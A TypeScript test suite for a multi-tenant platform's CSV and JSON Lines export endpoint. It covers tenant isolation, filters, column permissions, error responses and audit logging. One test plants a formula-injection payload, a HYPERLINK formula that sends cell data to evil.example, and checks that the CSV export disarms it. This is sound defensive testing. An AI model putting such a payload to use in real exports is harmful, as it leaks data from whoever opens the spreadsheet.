import { parse } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { systemViewer } from '../../../src/access/viewer.ts';
import { columnsOf, type ExportList, exportLists } from '../../../src/exports/columns.ts';
import type { Answer } from '../../support/app.ts';
import { keyWith, leaksOf, makeWorld, type World } from '../../support/isolation.ts';
import { schema } from '../../support/schema-walk.ts';
import { asOwner } from '../intel/records.ts';
import { type Served, serve } from './serving.ts';

let w: World;
let server: Served;
beforeAll(async () => {
  w = await makeWorld();
  server = await serve(w.t.app);
});
afterAll(async () => {
  await server?.stop();
  await w?.close();
});

const LISTS = [...exportLists(schema).values()];

interface Asked {
  filter?: unknown;
  orderBy?: unknown;
  fields?: string;
  [other: string]: unknown;
}

function get(file: string, key: string | null, asked: Asked = {}, init: RequestInit = {}): Promise<Response> {
  const texts = Object.entries(asked).map(([name, value]) => [
    name,
    typeof value === 'string' ? value : JSON.stringify(value),
  ]);
  const url = `${server.url.replace('graphql', 'export')}/${file}?${new URLSearchParams(texts)}`;
  return fetch(url, { ...init, headers: key ? { authorization: `Bearer ${key}` } : {} });
}

async function text(file: string, asked: Asked = {}, key = w.a.tenant.key): Promise<string> {
  const response = await get(file, key, asked);
  const body = await response.text();
  if (!response.ok) throw new Error(`${file}: ${response.status} ${body}`);
  return body;
}

async function rows(list: string, asked: Asked = {}, key?: string): Promise<Answer[]> {
  const lines = (await text(`${list}.jsonl`, asked, key)).split('\n').slice(0, -1);
  return lines.map((line) => JSON.parse(line));
}

async function refusal(file: string, key: string | null, asked: Asked = {}, init: RequestInit = {}) {
  const response = await get(file, key, asked, init);
  const { errors } = (await response.json()) as Answer;
  return { status: response.status, ...errors[0], headers: response.headers };
}

const EVERYTHING = systemViewer('', 'test').permissions;

/** All rows of a list as the API gives them, in pages of 3, with the names and values that an export gives. */
async function paged(list: ExportList, asked: Asked = {}): Promise<Answer[]> {
  const columns = columnsOf(list, EVERYTHING);
  const select = columns.map(({ field, isRelation }) => (isRelation ? `${field} { id }` : field)).join(' ');
  const [order, orderBy] = list.orderBy ? [`, $orderBy: ${String(list.orderBy)}`, ', orderBy: $orderBy'] : ['', ''];
  const query = `query ($after: String, $filter: ${String(list.filter)}${order}) {
    page: ${list.field}(first: 3, after: $after, filter: $filter${orderBy}) {
      nodes { ${select} } pageInfo { hasNextPage endCursor } } }`;
  const found: Answer[] = [];
  for (let after: string | null = null; ; ) {
    const { page }: Answer = await w.t.runOk(w.a.tenant.key, query, { ...asked, after });
    for (const node of page.nodes) {
      const cells = columns.map(({ name, field, isRelation }) => [name, isRelation ? node[field]?.id : node[field]]);
      found.push(Object.fromEntries(cells.map(([name, value]) => [name, value ?? null])));
    }
    if (!page.pageInfo.hasNextPage) return found;
    after = page.pageInfo.endCursor;
  }
}

/** Lists that had rows to compare. */
const filled = new Set<string>();

describe.each(LISTS)('$field', (list) => {
  test('is exported as the API lists it, in both formats, without a trace of another tenant', async () => {
    const expected = await paged(list);
    if (expected.length > 0) filled.add(list.field);
    const exported = await rows(list.field);
    expect(exported).toEqual(expected);
    expect(leaksOf(exported, w.b)).toEqual([]);
    const csv = await text(`${list.field}.csv`);
    expect(leaksOf(csv, w.b)).toEqual([]);
    const [header = [], ...cells]: string[][] = parse(csv, { record_delimiter: '\r\n' });
    expect(header).toEqual(columnsOf(list, EVERYTHING).map(({ name }) => name));
    // The exports so far are entries of the audit log themselves.
    if (list.field !== 'auditEntries') expect(cells).toHaveLength(expected.length);
    const others = await rows(list.field, {}, w.b.tenant.key);
    expect(others.length > 0).toBe(expected.length > 0);
    expect(leaksOf(others, w.a)).toEqual([]);
  });
});

test('there was something to compare in every list of the platform and of intel', () => {
  const intel = [
    'cases',
    'contents',
    'detections',
    'identifiers',
    'keywords',
    'osintResults',
    'platformUsers',
    'sources',
  ];
  expect([...filled]).toEqual(expect.arrayContaining(intel));
  expect([...filled]).toEqual(expect.arrayContaining(['apiKeys', 'auditEntries', 'events', 'importRuns', 'members']));
});

const DAYS = [{ postedAt: { lt: '2026-01-02' } }, { postedAt: { gte: '2026-01-04T00:00:00Z' } }];
const FILTERS: readonly [list: string, filter: object, orderBy: object | null][] = [
  ['contents', { riskLevel: { in: ['HIGH', 'CRITICAL'] } }, { field: 'RISK_SCORE', direction: 'DESC' }],
  ['contents', { not: { detections: { some: { status: { eq: 'CONFIRMED' } } } } }, null],
  ['contents', { or: DAYS, createdAt: { gte: '-P1D' } }, { field: 'POSTED_AT' }],
  ['contents', { externalId: { eq: 'nobody' } }, null],
  // The seed's cases are numbered from 810001.
  ['cases', { number: { lte: 810_001 } }, { field: 'NUMBER', direction: 'ASC' }],
  ['detections', { status: { nin: ['DISMISSED'] } }, { field: 'SCORE', direction: 'ASC' }],
  ['keywords', { term: { startsWith: 'f' } }, { field: 'TERM', direction: 'ASC' }],
  ['identifiers', { type: { in: ['EMAIL'] } }, { field: 'VALUE', direction: 'DESC' }],
  ['events', { aggregateType: { eq: 'Content' } }, { field: 'SEQ', direction: 'DESC' }],
  ['auditEntries', { action: { startsWith: 'case.' } }, null],
];

test('a filter and an order mean what they mean in the list', async () => {
  const sizes = new Set<number>();
  for (const [name, filter, orderBy] of FILTERS) {
    const list = LISTS.find(({ field }) => field === name);
    if (!list) throw new Error(name);
    const asked = orderBy ? { filter, orderBy } : { filter };
    const expected = await paged(list, asked);
    expect(await rows(name, asked), JSON.stringify(asked)).toEqual(expected);
    const all = await rows(name);
    expect(expected.length, `${name} has others too`).toBeLessThan(all.length);
    sizes.add(expected.length);
  }
  expect(Math.max(...sizes)).toBeGreaterThan(3);
});

test('an id of another tenant in a filter finds nothing', async () => {
  const [id] = w.b.seed.sources;
  expect(await rows('contents', { filter: { sourceId: { eq: id } } })).toEqual([]);
  expect(await text('contents.csv', { filter: { sourceId: { eq: id } }, fields: 'id,title' })).toBe('id,title\r\n');
});

test('columns are chosen and ordered; without a permission they are not there', async () => {
  expect(await text('sources.csv', { fields: 'reliability,kind' })).toMatch(/^reliability,kind\r\nA?/);
  const key = await keyWith(w.t, w.a.tenant, ['content:read']);
  const [row] = await rows('contents', {}, key);
  expect(Object.keys(row)).toContain('title');
  for (const hidden of ['sourceId', 'authorId', 'createdById']) expect(Object.keys(row)).not.toContain(hidden);
  const refused = await refusal('contents.csv', key, { fields: 'id,sourceId' });
  expect(refused).toMatchObject({ status: 400, extensions: { code: 'INVALID_INPUT', path: ['fields'] } });
  expect(refused.message).toMatch(/no column "sourceId" .*: there are analysisData, /);
  const lookups = await keyWith(w.t, w.a.tenant, ['osint:read']);
  expect(Object.keys((await rows('osintResults', {}, lookups))[0])).not.toContain('results');
});

test('a refusal before the first byte has a status, a code and a reason', async () => {
  const { key } = w.a.tenant;
  const few = await keyWith(w.t, w.a.tenant, ['content:read']);
  const bad = (asked: Asked) => () => refusal('contents.csv', key, asked);
  const cases = [
    [() => refusal('contents.csv', null), 401, 'UNAUTHENTICATED', /signIn/],
    [() => refusal('contents.csv', 'argus_nonsense'), 401, 'UNAUTHENTICATED', /not known/],
    [() => refusal('cases.csv', few), 403, 'FORBIDDEN', /case:read/],
    [
      () => refusal('nothing.csv', key),
      404,
      'NOT_FOUND',
      /no list "nothing": there are apiKeys, auditEntries, .*contents, /,
    ],
    [() => refusal('contents.xlsx', key), 404, 'NOT_FOUND', /no format "xlsx": there are csv, jsonl/],
    [() => refusal('contents', key), 404, 'NOT_FOUND', /<list>\.<format>/],
    [() => refusal('contents.csv', key, {}, { method: 'POST' }), 405, 'METHOD_NOT_ALLOWED', /GET/],
    [bad({ filter: '{"riskLevel":' }), 400, 'INVALID_INPUT', /not JSON: at character 14/],
    [bad({ filters: {} }), 400, 'INVALID_INPUT', /no parameter "filters": there are filter, orderBy/],
    [bad({ bom: 'yes' }), 400, 'INVALID_INPUT', /true or false/],
    [() => refusal('contents.jsonl', key, { bom: true }), 400, 'INVALID_INPUT', /only CSV/],
    [bad({ orderBy: { field: 'TITLE' } }), 400, 'INVALID_INPUT', /"TITLE" does not exist/],
  ] as const;
  for (const [asked, status, code, message] of cases) {
    // One after the other: an organisation has no more than two at a time.
    const refused = await asked();
    expect([refused.status, refused.extensions.code]).toEqual([status, code]);
    expect(refused.message).toMatch(message);
    expect(refused.headers.get('content-disposition')).toBeNull();
  }
  const head = await get('contents.csv', key, {}, { method: 'HEAD' });
  expect([head.status, head.headers.get('allow')]).toEqual([405, 'GET']);
});

test.each([
  [{ riskLevel: { in: ['HIGH', 'HIHG'] } }, ['filter', 'riskLevel', 'in', '1']],
  [{ nothing: 1 }, ['filter']],
  [{ and: [{}, { sourceId: { eq: 'case_01h455vb4pex5vsknk084sn02q' } }] }, ['filter', 'and', '1', 'sourceId', 'eq']],
  [{ createdAt: { gt: 'yesterday' } }, ['filter', 'createdAt', 'gt']],
])('the filter %j is refused with the place that is wrong', async (filter, path) => {
  const refused = await refusal('contents.jsonl', w.a.tenant.key, { filter });
  expect(refused).toMatchObject({ status: 400, extensions: { code: 'INVALID_INPUT' } });
  expect(refused.extensions.path.slice(0, path.length)).toEqual(path);
});

test('the answer is a file to be kept by nobody in between', async () => {
  const response = await get('contents.csv', w.a.tenant.key, { bom: true, fields: 'id' });
  const day = new Date().toISOString().slice(0, 10);
  expect(Object.fromEntries(response.headers)).toMatchObject({
    'content-type': 'text/csv; charset=utf-8; header=present',
    'content-disposition': `attachment; filename="contents-${day}.csv"`,
    'x-content-type-options': 'nosniff',
    'cache-control': 'no-store',
  });
  expect([...new Uint8Array(await response.arrayBuffer()).slice(0, 5)]).toEqual([0xef, 0xbb, 0xbf, 0x69, 0x64]);
  const jsonl = await get('contents.jsonl', w.a.tenant.key);
  expect(jsonl.headers.get('content-type')).toBe('application/jsonl; charset=utf-8');
  expect(jsonl.headers.get('content-disposition')).toMatch(/\.jsonl"$/);
  await jsonl.body?.cancel();
});

test('text that a spreadsheet would run is disarmed in CSV and exact in JSON Lines', async () => {
  const formula = '=HYPERLINK("http://evil.example/?"&A1,"x")';
  const [id] = w.a.seed.cases;
  const filter = { number: { eq: (await rows('cases', { fields: 'number,id' })).find((row) => row.id === id).number } };
  await w.owner.query(`UPDATE cases SET title = $1 WHERE tenant_id = $2 AND number = $3`, [
    formula,
    w.a.tenant.tenantId,
    filter.number.eq,
  ]);
  const [, [title] = []] = parse(await text('cases.csv', { fields: 'title,id', filter }), { record_delimiter: '\r\n' });
  expect(title).toBe(`'${formula}`);
  expect(await rows('cases', { fields: 'title', filter })).toEqual([{ title: formula }]);
});

test('an export is noted with what it held, without the values of its filter', async () => {
  const filter = { kind: { eq: 'FORUM' }, name: { startsWith: 'For' } };
  const exported = await rows('sources', { filter, fields: 'name,id' });
  const [entry] = await rows('auditEntries', { filter: { action: { eq: 'export.run' } } });
  expect(entry).toMatchObject({
    action: 'export.run',
    actorKind: 'API_KEY',
    resource: 'Source',
    ipAddress: '127.0.0.1',
  });
  expect(entry.metadata).toEqual({
    ...{ list: 'sources', format: 'jsonl', columns: ['name', 'id'], filter: ['kind', 'name'] },
    ...{ rows: exported.length, complete: true },
  });
  const count = async () =>
    (await asOwner(w.t, `SELECT count(*)::int AS n FROM audit_logs WHERE action = 'export.run'`))[0].n;
  const before = await count();
  await refusal('sources.csv', w.a.tenant.key, { filter: { kind: 1 } });
  await refusal('sources.csv', w.a.tenant.key, { filter: { createdAt: { gt: 'x' } } });
  expect(await count()).toBe(before);
});
